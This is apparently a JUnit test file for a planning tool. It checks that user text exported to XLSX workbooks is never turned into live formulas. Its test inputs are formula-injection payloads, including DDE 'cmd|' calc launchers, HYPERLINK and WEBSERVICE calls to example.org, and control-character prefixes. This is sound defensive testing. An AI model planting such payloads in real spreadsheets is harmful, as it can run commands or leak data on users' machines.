package org.bcfplanner.exchange.xlsx;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataValidationConstraint;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.bcfplanner.PoisonedPlans;
import org.bcfplanner.RandomPlans;
import org.bcfplanner.exchange.BoardFile;
import org.bcfplanner.exchange.ChangeReportFile;
import org.bcfplanner.plan.Plan;
import org.bcfplanner.report.Drafts;
import org.bcfplanner.report.Standing;
import org.bcfplanner.report.changes.ChangeReport;
import org.bcfplanner.report.strategy.BoardPaper;
import org.bcfplanner.samples.ThurrockPlan;
import org.bcfplanner.samples.ThurrockStrategy;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** A text that a spreadsheet would run stays a text in every workbook, whichever field it was typed into. */
class NoFormulaTest {
    /** Stands in every text, and in nothing else. */
    private static final String MARK = "zq7";

    @TempDir
    Path folder;

    static Stream<String> texts() {
        return Stream.of(
                "=1+1&\"" + MARK + "\"",
                "=cmd|'/C calc'!A0 " + MARK,
                "+cmd|'/C calc'!A0 " + MARK,
                "-2+3+cmd|' /C calc'!" + MARK,
                "@SUM(1+1)*cmd|' /C calc'!" + MARK,
                "=HYPERLINK(\"http://example.org/?x=\"&A1,\"" + MARK + "\")",
                "=WEBSERVICE(\"http://example.org/" + MARK + "\")",
                "\t=1+1 " + MARK,
                "\r=1+1 " + MARK,
                "\n=1+1 " + MARK,
                "\u0000=1+1 " + MARK,
                "\uFF1D1+1 " + MARK,
                "\",=1+1," + MARK + "\"",
                "{=1+1} " + MARK);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void ofTheSubmission(String text) {
        int found = 0;
        for (Plan plan : List.of(ThurrockPlan.plan(), new RandomPlans(5).plan())) {
            Path file = folder.resolve("part2.xlsx");
            Part2Workbook.write(PoisonedPlans.of(plan, text), Drafts.MAX, file);
            found += assertHarmless(file, text);
        }
        assertThat(found).as("cells with the text").isGreaterThan(300);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void ofTheBoard(String text) {
        Plan plan = PoisonedPlans.of(ThurrockStrategy.plan(), text);
        int found = 0;
        for (var objective : plan.objectives()) {
            for (String columns : List.of("", "delivery-first")) {
                Path file = folder.resolve("objective.xlsx");
                BoardFile.write(plan, new BoardPaper.Template(objective.id(), columns), Standing.DRAFT, file);
                found += assertHarmless(file, text);
            }
        }
        assertThat(found).as("cells with the text").isGreaterThan(100);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void ofWhatChanged(String text) {
        Plan before = ThurrockPlan.plan();
        Path file = folder.resolve("changes.xlsx");
        ChangeReportFile.write(ChangeReport.of(before, text, PoisonedPlans.of(before, text), text), file);
        assertThat(assertHarmless(file, text)).as("cells with the text").isGreaterThan(100);
    }

    /** How many cells show the text. */
    private static int assertHarmless(Path file, String text) {
        WrittenBook book = WrittenBook.read(file);
        int found = 0;
        for (Cell cell : book.cells()) {
            if (cell.getCellType() == CellType.FORMULA) {
                assertThat(cell.getCellFormula()).doesNotContain(MARK).doesNotContain("cmd|");
            } else if (cell.getCellType() == CellType.STRING
                    && cell.getStringCellValue().contains(MARK)) {
                found++;
                boolean dangerous =
                        "=+-@\t\r\n".indexOf(cell.getStringCellValue().charAt(0)) >= 0;
                assertThat(!dangerous || cell.getCellStyle().getQuotePrefixed())
                        .as("%s of %s: %s", cell.getAddress(), cell.getSheet().getSheetName(), text)
                        .isTrue();
            }
        }
        assertThat(besides(book)).noneMatch(each -> each.contains(MARK) || each.contains("cmd|"));
        return found;
    }

    /** What a workbook works out besides its cells, and where it leads. */
    private static List<String> besides(WrittenBook book) {
        List<String> found = new ArrayList<>();
        book.workbook().getAllNames().forEach(name -> found.add(String.valueOf(name.getRefersToFormula())));
        book.workbook().forEach(each -> {
            XSSFSheet sheet = (XSSFSheet) each;
            sheet.getDataValidations().forEach(validation -> {
                DataValidationConstraint constraint = validation.getValidationConstraint();
                found.add(String.valueOf(constraint.getFormula1()));
                found.add(String.valueOf(constraint.getFormula2()));
            });
            sheet.getHyperlinkList().forEach(link -> found.add(String.valueOf(link.getAddress())));
            for (int i = 0; i < sheet.getSheetConditionalFormatting().getNumConditionalFormattings(); i++) {
                var formatting = sheet.getSheetConditionalFormatting().getConditionalFormattingAt(i);
                for (int rule = 0; rule < formatting.getNumberOfRules(); rule++) {
                    found.add(String.valueOf(formatting.getRule(rule).getFormula1()));
                    found.add(String.valueOf(formatting.getRule(rule).getFormula2()));
                }
            }
        });
        return found;
    }
}
